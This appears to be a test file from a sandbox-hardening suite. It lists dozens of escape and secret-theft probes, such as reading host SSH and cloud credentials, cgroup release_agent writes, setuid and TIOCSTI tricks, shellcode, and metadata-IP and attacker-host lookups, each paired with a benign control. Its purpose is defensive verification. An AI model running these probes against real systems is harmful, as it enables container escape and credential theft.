"""The attempts that are one program inside: secrets, files, processes, network. See `points.Attempt`."""

from typing import Final

from tests.hostile.points import Attempt

SECRETS: Final = (
    Attempt(
        1,
        """
allowed = {"HOME", "USER", "LOGNAME", "SHELL", "LANG", "TERM", "TMPDIR", "PATH", "PWD", "OLDPWD", "SHLVL", "_",
  "LC_CTYPE", "HOSTNAME", "container"}
for name in sorted(set(os.environ) - allowed): print("OPEN", name)
absent("the worker's variables", any("canary" in value for value in os.environ.values()))
""",
        """works("what a program needs is set", os.environ["HOME"] == "/home/agent" and "/usr/bin" in os.environ["PATH"])""",
    ),
    Attempt(
        2,
        """absent("environment of the first process", b"canary" in read("/proc/1/environ"))""",
        """works("one's own can be read", b"HOME=" in read("/proc/self/environ"))""",
    ),
    Attempt(
        3,
        """
for pid in visible():
    try: absent(f"environment of {pid}", b"canary" in read(f"/proc/{pid}/environ"))
    except OSError as error: print("blocked", pid, error.strerror)
""",
        """
child = os.fork()
if child == 0:
    import time; time.sleep(5); os._exit(0)
works("a child's can be read", b"HOME=" in read(f"/proc/{child}/environ"))
os.kill(child, 9)
""",
    ),
    Attempt(
        4,
        """
for pid in visible():
    try: absent(f"host paths on the command line of {pid}", os.path.dirname(HOST["folder"]).encode() in read(f"/proc/{pid}/cmdline"))
    except OSError as error: print("blocked", pid, error.strerror)
""",
        """works("the first process has one", len(read("/proc/1/cmdline")) > 3)""",
    ),
    Attempt(
        5,
        """
for path in (HOST["key"], "/proc/1/root" + HOST["key"], "/proc/self/root" + HOST["key"]):
    attempt(path, lambda: read(path))
os.symlink(HOST["key"], "link"); attempt("link", lambda: read("link"))
attempt("hard link", lambda: os.link(HOST["key"], "hard"))
""",
        """works("a file of the workspace", read("README") == b"below\\n")""",
        least=5,
    ),
    Attempt(
        6,
        """
for home in (HOST["home"], "/root", "/home/ubuntu"):
    for name in (".ssh", ".aws", ".config", ".gitconfig", ".docker/config.json", ".netrc", ".pypirc", ".bash_history"):
        attempt(f"{home}/{name}", lambda: os.lstat(f"{home}/{name}"))
absent("somebody else's home", set(os.listdir("/home")) - {"agent"})
""",
        """write(os.environ["HOME"] + "/x"); works("its own home", read(os.environ["HOME"] + "/x") == b"x")""",
        least=25,
    ),
    Attempt(
        7,
        """
import fcntl
for number in range(3, 1024):
    try: fcntl.fcntl(number, fcntl.F_GETFD)
    except OSError: continue
    where = os.readlink(f"/proc/self/fd/{number}")
    if where != "/pullwright/probe.py": print("OPEN", number, where)
print("blocked the rest")
""",
        """works("input, output, errors", all(os.fstat(number) for number in range(3)))""",
    ),
    Attempt(
        8,
        """
attempt("session keyring", lambda: call("keyctl", 0, -3, 0))
attempt("describe", lambda: call("keyctl", 6, -3, 0, 0))
attempt("new key", lambda: call("add_key", b"user", b"x", b"y", 1, -3))
attempt("ask for a key", lambda: call("request_key", b"user", b"x", 0, -3))
""",
        """works("a harmless call by the same way", call("getpid") == os.getpid())""",
        least=4,
    ),
    Attempt(
        9,
        """
import socket
attempt("database", lambda: read(HOST["database"]))
attempt("socket", lambda: socket.socket(socket.AF_UNIX).connect(HOST["socket"]))
attempt("folder", lambda: os.listdir(HOST["folder"]))
""",
        """
import socket
server = socket.socket(socket.AF_UNIX); server.bind("/tmp/own"); server.listen()
client = socket.socket(socket.AF_UNIX); client.connect("/tmp/own")
works("its own socket", server.accept() is not None)
""",
        least=3,
    ),
)

FILES: Final = (
    Attempt(
        11,
        """
for folder in ("/", "/usr", "/usr/bin", "/etc", "/dev", "/env", "/pullwright", "/proc", "/var", "/run", "/sys"):
    attempt(folder, lambda: write(folder + "/x"))
for path in ("/etc/passwd", "/etc/hosts", "/pullwright/probe.py", "/env/bin/tool"):
    attempt(path, lambda: write(path)); attempt("remove " + path, lambda: os.unlink(path))
    attempt("mode of " + path, lambda: os.chmod(path, 0o777))
""",
        """
for folder in ("/workspace", "/tmp", "/var/tmp", os.environ["HOME"], "/dev/shm"):
    write(folder + "/x"); works(folder, read(folder + "/x") == b"x")
""",
        least=20,
    ),
    Attempt(
        12,
        """
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/sshd_config", "/etc/machine-id"):
    attempt(path, lambda: read(path))
""",
        """works("/etc/passwd", b"root:" in read("/etc/passwd"))""",
        least=5,
    ),
    Attempt(
        13,
        """
os.makedirs("/tmp/m", exist_ok=True)
attempt("tmpfs", lambda: call("mount", b"x", b"/tmp/m", b"tmpfs", 0, 0))
attempt("proc", lambda: call("mount", b"proc", b"/tmp/m", b"proc", 0, 0))
attempt("bind", lambda: call("mount", b"/", b"/tmp/m", 0, 4096, 0))
attempt("remount for writing", lambda: call("mount", 0, b"/usr", 0, 32 | 4096, 0))
attempt("umount", lambda: call("umount2", b"/env", 2))
attempt("new interface", lambda: call("fsopen", b"tmpfs", 0))
attempt("clone a tree", lambda: call("open_tree", -100, b"/", 1))
attempt("attributes", lambda: call("mount_setattr", -100, b"/usr", 0, 0, 0))
""",
        """works("looking at a file system", os.statvfs("/workspace").f_bavail >= 0)""",
        least=8,
    ),
    Attempt(
        14,
        """
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("chroot by number", lambda: call("chroot", b"/workspace"))
attempt("pivot_root", lambda: call("pivot_root", b"/tmp", b"/tmp"))
""",
        """os.chdir("/tmp"); works("changing the folder", os.getcwd() == "/tmp")""",
        least=3,
    ),
    Attempt(
        15,
        """
for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("network", 0x40000000), ("pid", 0x20000000), ("time", 0x80)):
    attempt("unshare " + name, lambda: call("unshare", flag))
    attempt("clone " + name, lambda: call("clone", flag | 17, 0, 0, 0, 0))
attempt("clone3", lambda: call("clone3", 0, 0), "ENOSYS", "EPERM")
for name in ("user", "net", "mnt", "pid"):
    attempt("setns " + name, lambda: call("setns", os.open("/proc/self/ns/" + name, os.O_RDONLY), 0))
""",
        """
import threading
child = os.fork() or os._exit(7)
works("a child", os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7)
thread = threading.Thread(target=lambda: print("works a thread")); thread.start(); thread.join()
""",
        least=15,
    ),
    Attempt(
        16,
        """
import stat
for name, major, minor in (("sda", 8, 0), ("vda", 253, 0), ("mem", 1, 1), ("fuse", 10, 229), ("kvm", 10, 232)):
    for kind in (stat.S_IFBLK, stat.S_IFCHR):
        attempt(name, lambda: os.mknod(f"/tmp/{name}{kind}", 0o666 | kind, os.makedev(major, minor)))
""",
        """os.mkfifo("/tmp/pipe"); works("a pipe", os.path.exists("/tmp/pipe"))""",
        least=10,
    ),
    Attempt(
        17,
        """
import stat
allowed = {"console", "core", "fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "tty",
  "urandom", "zero", "mqueue"}
for name in sorted(set(os.listdir("/dev")) - allowed): print("OPEN", name)
for folder, _, names in os.walk("/dev"):
    for name in names: absent(name, stat.S_ISBLK(os.lstat(f"{folder}/{name}").st_mode))
""",
        """
works("random", len(os.urandom(4)) == 4 and open("/dev/urandom", "rb").read(4) != b"")
works("null and zero", open("/dev/zero", "rb").read(2) == bytes(2) and open("/dev/null", "wb").write(b"x") == 1)
""",
        least=5,
    ),
    Attempt(
        18,
        """
handle = ctypes.create_string_buffer(136); ctypes.memmove(handle, (128).to_bytes(4, "little"), 4); mount = ctypes.c_int()
attempt("name to handle", lambda: call("name_to_handle_at", -100, b"/", handle, ctypes.byref(mount), 0))
root = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"))
attempt("open by handle", lambda: call("open_by_handle_at", os.open("/", os.O_RDONLY), root, 0))
""",
        """works("opening by name", os.open("/", os.O_RDONLY) > 2)""",
        least=2,
    ),
    Attempt(
        19,
        """
for pid in (1, os.getppid()):
    for name in ("root", "cwd", "root/../.."):
        attempt(f"{pid}/{name}", lambda: os.stat(f"/proc/{pid}/{name}" + HOST["folder"]))
    attempt(f"{pid}/exe", lambda: os.stat(f"/proc/{pid}/root{HOST['home']}/.ssh"))
""",
        """works("its own root", os.path.exists("/proc/self/root/workspace/README"))""",
        least=8,
    ),
    Attempt(
        20,
        """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/hostname",
             "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger", "/proc/1/oom_score_adj"):
    if path.endswith("oom_score_adj"):
        attempt(path, lambda: write(path, b"-1000"))
    else:
        attempt(path, lambda: write(path))
for path in ("/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/kmsg"):
    attempt(path, lambda: len(open(path, "rb", 0).read(64)) or os.stat("/none"))
try: absent("kernel addresses", any(int(line.split()[0], 16) for line in read("/proc/kallsyms").splitlines()[:50]))
except OSError as error: print("blocked kallsyms", error.strerror)
attempt("kernel log", lambda: call("syslog", 3, ctypes.create_string_buffer(64), 64))
attempt("kernel image", lambda: call("kexec_load", 0, 0, 0, 0))
attempt("module", lambda: call("init_module", 0, 0, b""))
attempt("reboot", lambda: call("reboot", 0xfee1dead, 672274793, 0x89abcdef, 0))
attempt("clock", lambda: call("settimeofday", ctypes.create_string_buffer(16), 0))
attempt("host name", lambda: call("sethostname", b"x", 1))
""",
        """works("reading a kernel setting", read("/proc/sys/kernel/ostype") == b"Linux\\n")""",
        least=15,
    ),
    Attempt(
        21,
        """
import itertools
tried = 0
for top in ("/sys/fs/cgroup", "/sys/kernel", "/sys/class", "/sys/module", "/sys/power"):
    for folder, _, names in os.walk(top):
        for name in names[:20]:
            if tried > 400: break
            tried += 1
            try: os.close(os.open(f"{folder}/{name}", os.O_WRONLY)); print("OPEN", folder, name)
            except OSError: pass
        try: os.mkdir(f"{folder}/pullwright-probe"); print("OPEN mkdir", folder)
        except OSError: pass
attempt("a group of its own", lambda: os.mkdir("/sys/fs/cgroup/memory/x"))
attempt("leaving the group", lambda: write("/sys/fs/cgroup/cgroup.procs", b"0"))
attempt("release agent", lambda: write("/sys/fs/cgroup/memory/release_agent"))
""",
        """works("which group it is in", b":" in read("/proc/self/cgroup"))""",
        least=3,
    ),
    Attempt(
        23,
        """
for path in ("/env/bin/tool", "/usr/bin/env"):
    attempt(path, lambda: os.open(path, os.O_WRONLY)); attempt("rename " + path, lambda: os.rename(path, path + "x"))
    attempt("time of " + path, lambda: os.utime(path)); attempt("owner of " + path, lambda: os.chown(path, 0, 0))
attempt("new in /env", lambda: os.mkdir("/env/x"))
""",
        """
import subprocess
works("the environment's tool", subprocess.run(["/env/bin/tool"], capture_output=True).stdout == b"tool\\n")
write("README", b"changed"); works("a file of the template, changed for oneself", read("README") == b"changed")
""",
        least=9,
    ),
    Attempt(
        24,
        """
for source, target in (("/etc/passwd", "a"), ("/env/bin/tool", "b"), ("/usr/bin/env", "c"), ("README", "/tmp/d"), ("README", "/dev/shm/e")):
    attempt(f"{source} as {target}", lambda: os.link(source, target))
""",
        """os.link("README", "second"); works("inside", os.stat("second").st_nlink == 2)""",
        least=5,
    ),
)

PROCESSES: Final = (
    Attempt(
        25,
        """
import signal
pids = visible()
absent("processes of others", len(pids) > 8 or HOST["worker"] in pids and HOST["worker"] > 64)
if HOST["worker"] not in pids:
    attempt("a signal to the worker", lambda: os.kill(HOST["worker"], 0))
    attempt("its memory", lambda: read(f"/proc/{HOST['worker']}/mem"))
    attempt("tracing it", lambda: call("ptrace", 16, HOST["worker"], 0, 0))
    attempt("a descriptor of it", lambda: call("pidfd_getfd", os.pidfd_open(os.getpid()), 0, 0))
child = os.fork()
if child == 0:
    signal.pause()
attempt("tracing a child", lambda: call("ptrace", 16, child, 0, 0))
attempt("reading a child", lambda: call("process_vm_readv", child, 0, 0, 0, 0, 0))
os.kill(child, 9)
""",
        """
child = os.fork()
if child == 0:
    import signal; signal.pause()
os.kill(child, 15)
works("ending one's own child", os.WTERMSIG(os.waitpid(child, 0)[1]) == 15)
""",
        least=3,
    ),
    Attempt(
        27,
        """
import shutil, stat, subprocess
code = "import os; print(os.geteuid(), os.getegid())"
shutil.copy(sys.executable, "/tmp/python"); shutil.copy(sys.executable, "/workspace/python")
for path in ("/tmp/python", "/workspace/python"):
    os.chmod(path, 0o6755)
    said = subprocess.run([path, "-I", "-S", "-c", code], capture_output=True, text=True).stdout.split()
    absent(f"{path} as somebody else {said}", said and said != [str(os.getuid()), str(os.getgid())])
for number in (0, os.getuid() + 1):
    attempt(f"uid {number}", lambda: os.setuid(number)); attempt(f"gid {number}", lambda: os.setgid(number))
attempt("groups", lambda: os.setgroups([0]))
for folder in filter(os.path.isdir, ("/usr/bin", "/usr/sbin")):
    for name in os.listdir(folder):
        path = f"{folder}/{name}"
        if os.path.isfile(path) and os.stat(path).st_mode & stat.S_ISUID and os.statvfs(path).f_flag & os.ST_NOSUID == 0:
            print("OPEN", path)
""",
        """
import shutil, subprocess
shutil.copy("/usr/bin/id", "/tmp/id")
works("a copy without the bit", subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True).stdout.strip() == str(os.getuid()))
""",
        least=7,
    ),
    Attempt(
        28,
        """
told = dict(line.split(":", 1) for line in read("/proc/self/status").decode().splitlines())
for name in ("CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb"): absent(name, int(told[name], 16))
absent("new privileges", told["NoNewPrivs"].strip() != "1")
absent("no filter", told["Seccomp"].strip() != "2")
absent("root", os.getuid() == 0 or os.getgid() == 0)
absent("more groups", set(os.getgroups()) - {os.getgid(), 65534})
""",
        """works("its own user has a name", __import__("pwd").getpwuid(os.getuid()).pw_name == "agent")""",
        least=9,
    ),
    Attempt(
        29,
        """
import fcntl, termios
attempt("the controlling terminal", lambda: os.open("/dev/tty", os.O_RDWR))
master, slave = os.openpty()
for name, number in (("TIOCSTI", 0x5412), ("TIOCLINUX", 0x541C), ("TIOCSTI, high bits", 0x5412 | 1 << 32)):
    attempt(name, lambda: libc.ioctl(slave, ctypes.c_ulong(number), ctypes.c_char_p(b"x")) < 0 and (_ for _ in ()).throw(OSError(ctypes.get_errno(), name)))
""",
        """
import fcntl, struct
master, slave = os.openpty()
works("a terminal of its own", len(fcntl.ioctl(slave, 0x5413, bytes(8))) == 8)
os.write(master, b"line\\n"); works("typing oneself", os.read(slave, 9) == b"line\\n")
""",
        least=4,
    ),
    Attempt(
        30,
        """
import mmap, signal
def run(code):
    child = os.fork()
    if child == 0:
        page = mmap.mmap(-1, 4096, prot=7); page.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        ctypes.CFUNCTYPE(ctypes.c_long)(address)(); os._exit(0)
    return os.waitpid(child, 0)[1]
absent("i386", run(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3") not in (signal.SIGSYS, signal.SIGSYS | 128))
absent("x32", run(b"\\xb8\\x27\\x00\\x00\\x40\\x0f\\x05\\xc3") not in (signal.SIGSYS, signal.SIGSYS | 128))
""",
        """
import mmap
page = mmap.mmap(-1, 4096, prot=7); page.write(b"\\xb8\\x27\\x00\\x00\\x00\\x0f\\x05\\xc3")
works("its own kind", ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))() == os.getpid())
""",
        least=2,
        machines=("x86_64",),
    ),
    Attempt(
        31,
        """
for name in ("bpf", "perf_event_open", "userfaultfd", "io_uring_setup", "kcmp", "swapon"):
    attempt(name, lambda: call(name, 0, 0, 0, 0, 0), "EPERM")
""",
        """works("plain calls", call("getppid") == os.getppid() and os.eventfd(0) > 2)""",
        least=6,
    ),
    Attempt(
        32,
        """
import resource
for name in ("NPROC", "NOFILE", "FSIZE", "CORE"):
    limit = getattr(resource, "RLIMIT_" + name); hard = resource.getrlimit(limit)[1]
    absent(name + " without a bound", hard == resource.RLIM_INFINITY)
    attempt(name, lambda: resource.setrlimit(limit, (hard + 1, hard + 1)) or hard) if False else None
    try: resource.setrlimit(limit, (hard + 1, hard + 1)); print("OPEN", name)
    except (OSError, ValueError): print("blocked", name)
attempt("nice", lambda: os.nice(-5))
attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(5)))
""",
        """
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64)); works("lowering", resource.getrlimit(resource.RLIMIT_NOFILE) == (64, 64))
works("being nicer", os.nice(1) >= 1)
""",
        least=10,
    ),
)

_LOOPBACK: Final = """
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try: server = socket.socket(family); server.bind((host, 0)); server.listen()
    except OSError as error:
        if family == socket.AF_INET: print("FAILS", error)
        continue
    client = socket.socket(family); client.settimeout(2); client.connect(server.getsockname()[:2])
    works("its own loopback " + host, server.accept() is not None)
"""

NETWORK: Final = (
    Attempt(
        33,
        """
import socket
def out(family, kind, where, protocol=0):
    one = socket.socket(family, kind, protocol); one.settimeout(0.3)
    one.connect(where); one.send(b"x"); one.recv(1)
for host in ("1.1.1.1", "10.0.0.1", "172.17.0.1", "192.168.1.1", "0.0.0.0", "255.255.255.255"):
    attempt("tcp " + host, lambda: out(socket.AF_INET, socket.SOCK_STREAM, (host, 443)))
    attempt("udp " + host, lambda: out(socket.AF_INET, socket.SOCK_DGRAM, (host, 53)))
for host in ("2606:4700:4700::1111", "::ffff:1.1.1.1", "fe80::1%lo"):
    attempt("tcp " + host, lambda: out(socket.AF_INET6, socket.SOCK_STREAM, (host, 443)))
attempt("icmp", lambda: out(socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 0), socket.IPPROTO_ICMP))
absent("interfaces", [name for _, name in socket.if_nameindex() if name not in ("lo", "tunl0", "sit0", "gre0", "ip6tnl0")])
""",
        _LOOPBACK,
        least=15,
    ),
    Attempt(
        34,
        """
import socket
for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16"):
    attempt(host, lambda: socket.create_connection((host, 80), 0.5))
""",
        _LOOPBACK,
        least=4,
    ),
    Attempt(
        35,
        """
import socket
for host in ("127.0.0.1", "localhost", "127.1.2.3", "0.0.0.0"):
    attempt(host, lambda: socket.create_connection((host, HOST["tcp"]), 0.5))
attempt("mapped", lambda: socket.create_connection(("::ffff:127.0.0.1", HOST["tcp"]), 0.5))
""",
        _LOOPBACK,
        least=5,
    ),
    Attempt(
        36,
        """
import socket
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + HOST["abstract"]))
attempt("by path", lambda: socket.socket(socket.AF_UNIX).connect(HOST["socket"]))
seen = read("/proc/net/unix")
absent("the host's sockets in the list", HOST["abstract"].encode() in seen or b"worker.sock" in seen)
""",
        """
import socket
for name in ("\\0own", "/tmp/own.sock"):
    server = socket.socket(socket.AF_UNIX); server.bind(name); server.listen()
    socket.socket(socket.AF_UNIX).connect(name); works(repr(name), server.accept() is not None)
""",
        least=3,
    ),
    Attempt(
        37,
        """
import socket
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
             "/run/crio/crio.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/user/1000/bus",
             "/run/udev/control", "/tmp/.X11-unix/X0", "/run/snapd.socket"):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
""",
        """
import socket
one, other = socket.socketpair(); one.send(b"x"); works("a pair of its own", other.recv(1) == b"x")
""",
        least=11,
    ),
    Attempt(
        38,
        """
import socket
for name, family, kind in (("vsock", 40, socket.SOCK_STREAM), ("packet", 17, socket.SOCK_RAW), ("alg", 38, socket.SOCK_SEQPACKET),
                           ("bluetooth", 31, socket.SOCK_RAW), ("xdp", 44, socket.SOCK_RAW), ("key", 15, socket.SOCK_RAW),
                           ("raw", 2, socket.SOCK_RAW), ("raw 6", 10, socket.SOCK_RAW), ("ax25", 3, socket.SOCK_DGRAM)):
    attempt(name, lambda: socket.socket(family, kind, 255 if name.startswith("raw") else 0))
""",
        """
import socket
for family in (socket.AF_INET, socket.AF_UNIX, socket.AF_NETLINK):
    works(family.name, socket.socket(family, socket.SOCK_RAW if family == socket.AF_NETLINK else socket.SOCK_STREAM).fileno() > 0)
""",
        least=9,
    ),
    Attempt(
        39,
        """
import socket
for name in ("example.org", "data.attacker.example", "localhost.attacker.example", "metadata.google.internal"):
    attempt(name, lambda: socket.getaddrinfo(name, 443))
question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4data\\7example\\0\\0\\1\\0\\1"
for server in ("127.0.0.53", "127.0.0.1", "8.8.8.8", "127.0.0.11"):
    def ask():
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.settimeout(0.3); one.connect((server, 53)); one.send(question); return one.recv(512)
    attempt("question to " + server, ask)
""",
        """
import socket
works("localhost", socket.gethostbyname("localhost") == "127.0.0.1")
""",
        least=8,
    ),
    Attempt(
        41,
        """
import socket
for port in (3128, 8080, 1080):
    attempt(str(port), lambda: socket.create_connection(("127.0.0.1", port), 0.5))
absent("proxy variables", [name for name in os.environ if "proxy" in name.lower()])
""",
        _LOOPBACK,
        least=4,
    ),
)

INSIDE: Final = (*SECRETS, *FILES, *PROCESSES, *NETWORK)
